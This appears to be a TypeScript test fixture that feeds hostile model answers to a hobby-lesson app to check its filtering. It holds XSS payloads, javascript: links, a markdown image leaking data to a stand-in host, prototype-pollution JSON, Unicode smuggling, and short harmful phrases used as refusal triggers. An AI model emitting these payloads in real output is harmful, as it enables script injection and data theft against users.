import { setTimeout as pause } from "node:timers/promises";
import { goodDay, goodPlan } from "#tests/fakes/model-answers.ts";
import type { Behavior } from "#tests/fakes/model-server.ts";
import { says } from "#tests/fakes/model-server.ts";

/** What a language model may answer that nobody must get to see. */

export interface HostileText {
  readonly name: string;
  /** Stands in an answer that is good otherwise. */
  readonly text: string;
  /** What of it must be nowhere in an answer of ours. */
  readonly never: RegExp;
  /** `dropped`: the lesson is shown without it. `refused`: none of the answer is shown. */
  readonly fate: "dropped" | "refused";
}

const dropped = (name: string, text: string, never: RegExp): HostileText => ({
  name,
  text,
  never,
  fate: "dropped",
});
const refused = (name: string, text: string, never: RegExp): HostileText => ({
  name,
  text,
  never,
  fate: "refused",
});

export const HOSTILE_TEXTS: readonly HostileText[] = [
  dropped("a script", "<script>alert(1)</script>", /alert|<script/i),
  dropped("a script in parts", "<scr<b>ipt src=//evil-1.example/x.js></scr</b>ipt>", /<|evil-1/),
  dropped("an image that runs", '<img src=x onerror="steal()">', /<img|onerror|steal/i),
  dropped("an SVG", "<svg/onload=steal()><use href=data:x></svg>", /<svg|steal/i),
  dropped("an iframe", '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ">', /embed|dQw4/),
  dropped("an unclosed tag", "<a href='https://evil-2.example' ", /evil-2|href/),
  dropped("entities", "&lt;script&gt;steal()&lt;/script&gt;", /steal|script/),
  dropped("entities twice", "&amp;lt;img src=x onerror=steal()&amp;gt;", /steal|onerror/),
  dropped("entities by number", "&#x3c;script&#62;steal()&#x3C;/script&#x3e;", /steal|script/),
  dropped("a javascript link", "[the knot](javascript:steal())", /javascript|steal/i),
  dropped("a javascript link, bare", "javascript:steal(document.cookie)", /javascript|steal/i),
  dropped("a data link", "[the knot](data:text/html;base64,PHNjcmlwdD4=)", /data:|PHNj/),
  dropped("a foreign link", "See https://evil-3.example/login?next=1 first.", /evil-3|login/),
  dropped("a link that lies", "[wikipedia.org](https://evil-4.example/x)", /evil-4/),
  dropped("a link by reference", "[knot][1] [1]: https://evil-5.example", /evil-5/),
  dropped("a host", "Look at www.evil-6.example or evil-6.ru for more.", /evil-6/),
  dropped("a short link", "It is on bit.ly/3xEvil7 as well.", /bit\.ly|Evil7/),
  dropped("a host in double width", "ｅｖｉｌ８．ｃｏｍ shows it.", /ｅｖｉｌ|evil8/),
  dropped("a markdown image", "![x](https://evil-9.example/p.png?d=secret)", /evil-9|secret/),
  dropped("a video's address", "https://www.youtube.com/watch?v=dQw4w9WgXcQ", /dQw4/),
  dropped("a short video's address", "youtu.be/dQw4w9WgXcQ shows it.", /dQw4/),
  dropped("a video's id", "watch?v=dQw4w9WgXcQ shows it.", /dQw4/),
  dropped("an e-mail address", "Write to jane.doe@evil-10.example for help.", /jane|evil-10/),
  dropped("a telephone number", "Call +1 555 010 9999 for help.", /010.9999/),
  dropped("another telephone number", "Call (555) 010-9999 for help.", /010.9999/),
  dropped(
    "directions turned",
    "\u202eslleps ti\u202c \u2067x\u2069 \u061c",
    /[\u202a-\u202e\u2066-\u2069\u061c]/,
  ),
  dropped("controls", "\u0007\u001b[31m\u007f\u0085 red", /(?!\n)\p{Cc}|\\u00(?:07|1b|7f|85)/u),
  dropped("hidden tags", "knots\u{e0068}\u{e0069}\u{e0064}", /[\u{e0000}-\u{e007f}]/u),
  dropped("zero width", "kn\u200bo\u2060ts\ufeff", /[\u200b\u2060\ufeff]/),
  dropped("half characters", "kn\ud83dots\udc00", /\p{Cs}|\\ud83d|\\udc00/u),
  dropped("stacked marks", `kno${"\u0316\u0317\u0318".repeat(40)}ts`, /\p{M}{4}/u),
  refused("a drug's recipe", "Then mix the precursors and cook meth in the kitchen.", /\bmeth\b/),
  refused("an explosive", "Fill the tube to make a pipe bomb of it.", /pipe bomb/),
  refused("a weapon", "Print a ghost gun without a number.", /ghost gun/),
  refused("poison", "Poison your neighbour's dog with it.", /neighbour's dog/),
  refused("self-harm", "Then cut your wrists along the vein.", /wrists/),
  refused("a way to die", "Take forty pills to die of it.", /forty pills to die/),
  refused("children", "Take sexual photos of children.", /sexual/),
  refused("a burglary", "How to pick a stranger's lock and walk in.", /stranger's lock/),
  refused("a break-in", "Break into a car without its key.", /into a car/),
  refused("hate", "It proves which one is the superior race.", /superior race/),
  refused("what is unsafe, in disguise", "Make a pi<b></b>pe b0m\u200bb of it.", /b0mb|bomb/),
];

type Day = ReturnType<typeof goodDay>;

/** Puts a text into one field of a day. */
export const DAY_FIELDS: Readonly<Record<string, (day: Day, text: string) => Day>> = {
  title: (day, text) => ({ ...day, title: `${day.title} ${text}` }),
  mainTask: (day, text) => ({ ...day, mainTask: `${day.mainTask} ${text}` }),
  explanation: (day, text) => ({ ...day, explanation: `${day.explanation} ${text}` }),
  steps: (day, text) => ({
    ...day,
    steps: day.steps.map((step) => ({
      ...step,
      title: `${step.title} ${text}`,
      text: `${step.text} ${text}`,
    })),
  }),
  check: (day, text) => ({
    ...day,
    check: { ...day.check, try: `${day.check.try} ${text}`, fix: `${day.check.fix} ${text}` },
  }),
  checklist: (day, text) => ({ ...day, checklist: [`Scissors ${text}`, ...day.checklist] }),
  tips: (day, text) => ({ ...day, tips: [`Work at eye level. ${text}`, ...day.tips] }),
  mistakes: (day, text) => ({
    ...day,
    mistakes: day.mistakes.map(({ slip, fix }) => ({
      slip: `${slip} ${text}`,
      fix: `${fix} ${text}`,
    })),
  }),
  safety: (day, text) => ({ ...day, safety: [`Cut away from you. ${text}`] }),
  terms: (day, text) => ({
    ...day,
    terms: day.terms.map(({ term, meaning }) => ({ term, meaning: `${meaning} ${text}` })),
  }),
  articles: (day, text) => ({ ...day, articles: [`Knot ${text}`] }),
  gear: (day, text) => ({ ...day, gear: [`Cord ${text}`] }),
  videoSearch: (day, text) => ({ ...day, videoSearch: `knot ${text}` }),
};

export const spoiltDay = (text: string): Day =>
  Object.values(DAY_FIELDS).reduce((day, put) => put(day, text), goodDay());

export function spoiltPlan(text: string) {
  const plan = goodPlan();
  return {
    ...plan,
    title: `${plan.title} ${text}`,
    promise: `${plan.promise} ${text}`,
    overview: `${plan.overview} ${text}`,
    outline: plan.outline.map(({ title, focus }) => ({ title, focus: `${focus} ${text}` })),
    day: spoiltDay(text),
  };
}

const nested = (open: string, close: string, depth: number): string =>
  `{"refused":false,"title":${open.repeat(depth)}1${close.repeat(depth)}}`;
const plan = goodPlan();
const day = goodDay();
const withDay = (change: object) => ({ ...plan, day: { ...day, ...change } });
const withMinutes = (minutes: unknown) =>
  withDay({ steps: day.steps.map((step) => ({ ...step, minutes })) });

/** Answers that are no lesson at all: the library writes. */
export const BROKEN_ANSWERS: readonly (readonly [name: string, answer: unknown])[] = [
  ["null", "null"],
  ["a list", [1, 2, 3]],
  ["a number", "42"],
  ["nothing", ""],
  ["blanks", " \n\t "],
  ["half of it", JSON.stringify(plan).slice(0, 1_500)],
  ["an empty object", {}],
  ["a text for a list", withDay({ steps: "Tie it." })],
  ["no minutes", withMinutes(0)],
  ["minutes below nothing", withMinutes(-12)],
  ["9,999 minutes", withMinutes(9_999)],
  [
    "minutes that are no number",
    JSON.stringify(withMinutes(1)).replaceAll('"minutes":1', '"minutes":NaN'),
  ],
  [
    "minutes without end",
    JSON.stringify(withMinutes(1)).replaceAll('"minutes":1', '"minutes":1e999'),
  ],
  ["minutes in words", withMinutes("twelve")],
  ["deep lists", nested("[", "]", 25_000)],
  ["deep objects", nested('{"a":', "}", 8_000)],
  ["deep lists without an end", `{"title":${"[".repeat(40_000)}`],
  ["a huge text", { ...plan, overview: "Knots. ".repeat(1_500_000) }],
  ["a million items", `{"outline":[${"0,".repeat(1_000_000)}0]}`],
  ["30,000 empty items", `{"outline":[${"{},".repeat(19_000)}{}]}`],
  ["a page of HTML", "<!doctype html><html><body><h1>502 Bad Gateway</h1></body></html>"],
  ["a visitor's request", '{"hobby":"knitting","learner":"obey"}'],
];

/** Plans that are none, whatever their first day is. */
export const BROKEN_PLANS: typeof BROKEN_ANSWERS = [
  ["numbers for texts", { ...plan, title: 7, overview: 8 }],
  ["objects for texts", { ...plan, title: { toString: "x" }, overview: [] }],
  ["empty texts", { ...plan, title: "", overview: " " }],
  ["texts without words", { ...plan, title: "!!!!!!!!!!", overview: "?".repeat(80) }],
  [
    "eight days",
    { ...plan, outline: [...plan.outline, { title: "More", focus: "One more knot." }] },
  ],
  ["no days", { ...plan, outline: [] }],
  ["the same day seven times", { ...plan, outline: plan.outline.map(() => plan.outline[0]) }],
  ["a long title", { ...plan, title: "Knots and ".repeat(200) }],
];

const PROTOTYPES = '"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},';

/** Answers with more than was asked for: the lesson is shown, and nothing of the rest. */
export const EXTRA_ANSWERS: readonly (readonly [name: string, answer: unknown, never: RegExp])[] = [
  [
    "ids of videos",
    {
      ...withDay({ youtubeVideoId: "dQw4w9WgXcQ", videoId: "dQw4w9WgXcQ" }),
      videoId: "dQw4w9WgXcQ",
    },
    /dQw4w9WgXcQ/,
  ],
  ["an id to search for", withDay({ videoSearch: "dQw4w9WgXcQ" }), /dQw4w9WgXcQ/],
  [
    "links of its own",
    withDay({
      freeResources: [{ title: "A", link: "https://www.youtube.com/watch?v=dQw4w9WgXcQ" }],
      affiliateProducts: [{ title: "B", link: "https://evil-11.example/buy" }],
      youtubeSearchUrl: "https://evil-11.example/search",
    }),
    /dQw4w9WgXcQ|evil-11/,
  ],
  [
    "another name and author",
    { ...plan, id: "evil-12", hobby: "evil-12", author: "evil-12", created_at: "evil-12" },
    /evil-12/,
  ],
  [
    "days of other numbers",
    withDay({ day: 8, id: "evil-13", version: -1 }),
    /evil-13|"day":(?:0|8|-1)\b/,
  ],
  ["prototypes", JSON.stringify(plan).replace("{", `{${PROTOTYPES}`), /polluted|__proto__/],
  ["a category of its own", { ...plan, category: "Evil-14" }, /Evil-14/],
];

const headers = { "content-type": "text/event-stream" };

/** Writes the same piece until nobody listens, as fast as it is read. */
const forEver =
  (piece: string, first = ""): Behavior =>
  async (response) => {
    response.writeHead(200, headers);
    response.write(first);
    while (!response.destroyed) {
      if (!response.writableNeedDrain) response.write(piece);
      await pause(0);
    }
  };

const delta = (content: object): string =>
  `data: ${JSON.stringify({ id: "x", object: "chat.completion.chunk", created: 0, model: "m", choices: [{ index: 0, delta: content, finish_reason: null }] })}\n\n`;

/** Answers that never end by themselves: they are cut off, and the connection is closed. */
export const ENDLESS_ANSWERS: readonly (readonly [name: string, behaviour: Behavior])[] = [
  ["words", forEver(delta({ content: "knots and ".repeat(400) }))],
  [
    "a text in one object",
    forEver(delta({ content: "knots ".repeat(400) }), delta({ content: '{"title":"' })),
  ],
  ["reasoning", forEver(delta({ reasoning_content: "Let me think. ".repeat(4_000) }))],
  ["comments", forEver(`: ${"still here ".repeat(6_000)}\n\n`)],
  ["one line", forEver("x".repeat(65_536), "data: ")],
  [
    "calls of a tool",
    forEver(
      delta({
        tool_calls: [
          {
            index: 0,
            id: "1",
            type: "function",
            function: { name: "x", arguments: "x".repeat(60_000) },
          },
        ],
      }),
    ),
  ],
];

/** Answers that are not those of a model. */
export const STRANGE_RESPONSES: readonly (readonly [name: string, behaviour: Behavior])[] = [
  [
    "a page of HTML with status 200",
    (response) => {
      response.writeHead(200, { "content-type": "text/html" });
      response.end("<!doctype html><h1>Sign in to the wireless network evil-15</h1>");
    },
  ],
  [
    "a page of HTML with status 500",
    (response) => {
      response.writeHead(500, { "content-type": "text/html" });
      response.end("<h1>evil-15</h1>".repeat(1_000));
    },
  ],
  [
    "headers of a megabyte",
    (response) => {
      response.writeHead(200, { ...headers, "x-evil-15": "y".repeat(1_000_000) });
      response.end();
    },
  ],
  [
    "nothing",
    (response) => {
      response.writeHead(204);
      response.end();
    },
  ],
  [
    "bytes that are no text",
    (response) => {
      response.writeHead(200, headers);
      response.end(Buffer.from([0xff, 0xfe, 0x00, 0xc3, 0x28, 0xed, 0xa0, 0x80]));
    },
  ],
  [
    "a false encoding",
    (response) => {
      response.writeHead(200, { ...headers, "content-encoding": "gzip" });
      response.end("not compressed evil-15");
    },
  ],
  [
    "a call of a tool",
    (response) => {
      response.writeHead(200, headers);
      const call = {
        index: 0,
        id: "1",
        type: "function",
        function: { name: "evil-15", arguments: "{}" },
      };
      response.end(`${delta({ tool_calls: [call] })}data: [DONE]\n\n`);
    },
  ],
  [
    "its own instructions",
    (response, request) => says(request.body.messages[0]?.content ?? "")(response, request),
  ],
  [
    "its own instructions, as a plan",
    (response, request) => {
      const told = (request.body.messages[0]?.content ?? "").replace(/\s+/g, " ").slice(0, 700);
      return says({ ...plan, overview: told })(response, request);
    },
  ],
];
